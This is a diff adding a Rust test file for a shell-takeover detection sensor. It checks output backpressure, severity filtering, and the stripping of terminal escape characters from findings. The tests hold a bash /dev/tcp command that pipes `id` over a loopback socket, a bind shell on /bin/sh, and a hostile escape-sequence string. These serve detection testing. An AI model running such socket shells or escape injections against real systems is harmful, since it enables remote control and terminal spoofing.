@@ -1,0 +1,182 @@
+//! What happens with the sensor's output: nobody reads it, nobody can read it, people read it.
+
+use anyhow::{Result, ensure};
+use sensor_tests::{
+    deadline::wait_for,
+    lab::Lab,
+    peer::{Listener, V4},
+    process::command,
+    programs::Programs,
+    sensor::{Sensor, binary},
+    suite::Alone,
+    takeover::Takeover,
+    tools,
+};
+
+fn json() -> Result<std::process::Command> {
+    let mut run = command(binary()?);
+    run.args(["run", "--format", "json"]);
+    Ok(run)
+}
+
+/// Nobody will ever read a finding again: better to end than to seem to watch.
+fn closed_output_ends_it() -> Result<()> {
+    let sensor = Sensor::start_unread(json()?)?;
+    sensor.close_output();
+    let takeover = Takeover::start()?;
+    let status = sensor.wait()?;
+    takeover.end()?;
+    let said = sensor.diagnostics();
+    ensure!(
+        status.code().is_some_and(|code| code != 0 && code != 101),
+        "it ends with {status}: {said:#?}"
+    );
+    let about: Vec<_> = said.iter().filter(|line| line.contains("standard output")).collect();
+    ensure!(about.len() == 1, "not one line about it: {said:#?}");
+    ensure!(
+        !said.iter().any(|line| line.contains("panicked")),
+        "it panics: {said:#?}"
+    );
+    Ok(())
+}
+
+/// Whoever reads the output is stuck for a while: the sensor goes on, and says later what could not be written.
+fn unread_output_does_not_stop_detection() -> Result<()> {
+    let sensor = Sensor::start_unread(json()?)?;
+    // Far more than pipe and queue hold.
+    for _ in 0..600 {
+        Takeover::start()?.end()?;
+    }
+    let about_losses = || sensor.diagnostics().iter().filter(|line| line.contains("lost")).count();
+    wait_for("a warning about lines that were lost", || {
+        Ok((about_losses() > 0).then_some(()))
+    })?;
+    sensor.read()?;
+    let takeover = Takeover::start()?;
+    let ends = takeover.ends();
+    let finding = sensor.wait_line("a finding after the output is read again", 0, |finding| {
+        finding.has(ends)
+    })?;
+    takeover.end()?;
+    sensor.fence()?;
+    // Every line that did come out is a whole one.
+    sensor.new_ids(0)?;
+    let losses = finding.property("losses").cloned().unwrap_or_default();
+    let count = |name: &str| losses.get(name).and_then(serde_json::Value::as_u64);
+    ensure!(
+        count("outputDropped") > Some(0),
+        "the finding does not tell what was lost: {finding}"
+    );
+    ensure!(
+        count("ringFull") == Some(0) && count("readFailures") == Some(0),
+        "more was lost than output: {losses}"
+    );
+    ensure!(
+        about_losses() <= 2,
+        "many warnings about one thing: {:#?}",
+        sensor.diagnostics()
+    );
+    sensor.stop()
+}
+
+/// A command on a loopback connection is LOW: there with `--min-severity low`, not without.
+fn low_severity_on_request() -> Result<()> {
+    let sensor = Sensor::start_with(&["--min-severity", "low"])?;
+    let programs = Programs::new()?;
+    let lab = Lab::new(&sensor, &programs)?;
+    let listener = Listener::tcp(V4)?;
+    lab.bash(
+        "exec 3<>/dev/tcp/127.0.0.1/$P; id <&3 >&3 2>&3; cat <&3 >copy; true",
+        &[("P", &listener.port()?.to_string())],
+    )?;
+    let mut peer = listener.accept()?;
+    peer.read_until("uid=")?;
+    let ends = peer.ends();
+    let finding = sensor.wait_line("a finding of low severity", 0, |finding| finding.has(ends))?;
+    ensure!(finding.text("severity") == "LOW", "severity is not LOW: {finding}");
+    drop(peer);
+    sensor.wait_line("its end", 0, |line| line.id() == finding.id() && !line.is_active())?;
+    sensor.stop()
+}
+
+/// With `--min-severity critical`, a bind shell is too little and a reverse shell is not.
+fn critical_severity_only() -> Result<()> {
+    let sensor = Sensor::start_with(&["--min-severity", "critical"])?;
+    let programs = Programs::new()?;
+    let lab = Lab::new(&sensor, &programs)?;
+    let port = sensor_tests::peer::free_port(V4)?.to_string();
+    let program = programs.c("connect.c", &[])?;
+    lab.spawn(
+        lab.command(program)?
+            .args(["listen", "4", "127.0.0.1", &port, "/bin/sh"]),
+    )?;
+    let mut peer = sensor_tests::peer::call((V4, port.parse()?).into())?;
+    peer.id()?;
+    drop(peer);
+    let takeover = Takeover::start()?;
+    let ends = takeover.ends();
+    let finding = sensor.wait_line("a finding", 0, |finding| finding.has(ends))?;
+    takeover.end()?;
+    let ids = sensor.new_ids(0)?;
+    sensor.stop()?;
+    ensure!(
+        ids.len() == 1 && ids.contains(finding.id()),
+        "findings besides: {ids:?}"
+    );
+    Ok(())
+}
+
+/// What a hostile shell calls itself: moves the cursor, sets the title, hides and reverses text, begins new lines.
+const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\u{9b}31m\u{202e}\nsh\u{7f}";
+
+/// Runs `run`, has it report a shell that calls itself [`HOSTILE`], and gives all that it printed.
+fn shown(run: std::process::Command) -> Result<String> {
+    let sensor = Sensor::start_unread(run)?;
+    sensor.read()?;
+    let takeover = Takeover::start_named(HOSTILE)?;
+    let port = format!(":{}", takeover.ends().peer.port());
+    let text = wait_for("a finding for people", || {
+        let text = sensor.lines(0, |lines| {
+            let lines = lines.iter().map(|line| String::from_utf8_lossy(&line.raw).into_owned());
+            lines.collect::<Vec<_>>().join("\n")
+        });
+        Ok((text.contains(&port) && text.contains("owned")).then_some(text))
+    })?;
+    takeover.end()?;
+    Ok(text)
+}
+
+fn text_for_people_is_harmless() -> Result<()> {
+    let mut run = command(binary()?);
+    run.args(["run", "--format", "human"]);
+    let text = shown(run)?;
+    let bad = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
+    ensure!(!text.contains(bad), "a control character: {text:?}");
+    Ok(())
+}
+
+/// A terminal gets colours, and nothing of what the shell calls itself.
+fn no_escape_reaches_a_terminal() -> Result<()> {
+    let mut run = command(tools::find("script")?);
+    run.args(["-qec", &format!("exec {} run", binary()?.display()), "/dev/null"])
+        .env("TERM", "xterm");
+    let text = shown(run)?;
+    for part in ["\u{1b}[2J", "\u{1b}]0", "\u{7}", "\u{9b}", "\u{202e}", "\u{7f}"] {
+        ensure!(!text.contains(part), "{part:?} reaches the terminal: {text:?}");
+    }
+    Ok(())
+}
+
+pub fn cases() -> Vec<Alone> {
+    vec![
+        ("output::closed_ends_the_sensor", closed_output_ends_it),
+        (
+            "output::unread_does_not_stop_detection",
+            unread_output_does_not_stop_detection,
+        ),
+        ("output::low_severity_on_request", low_severity_on_request),
+        ("output::critical_severity_only", critical_severity_only),
+        ("output::text_for_people_is_harmless", text_for_people_is_harmless),
+        ("output::no_escape_reaches_a_terminal", no_escape_reaches_a_terminal),
+    ]
+}
